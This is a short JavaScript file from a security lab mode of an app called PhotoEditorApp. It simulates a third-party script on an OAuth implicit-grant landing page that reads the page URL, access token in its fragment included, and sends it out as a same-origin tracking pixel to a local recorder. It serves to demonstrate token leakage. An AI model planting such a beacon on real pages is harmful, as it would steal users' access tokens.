// A stand-in for a third-party script on the implicit grant's landing page
// (analytics, ads, a chat widget, or a library someone compromised), which
// PhotoEditorApp serves in lab mode. It does what any script of a page can
// do: read the page's address, fragment and access token included, and
// send it home. Its "home" is the app's recorder (/lab/legacy/analytics),
// so that the flow inspector shows what it took; on the web it would be
// someone else's server. It sends it as a tracking pixel: an image from the
// page's own origin, which the page's Content-Security-Policy allows.
const beacon = new Image(1, 1);
beacon.id = "analytics-beacon";
beacon.alt = "";
beacon.src = "/lab/legacy/analytics?" + new URLSearchParams({ page: location.href });
document.body.append(beacon);
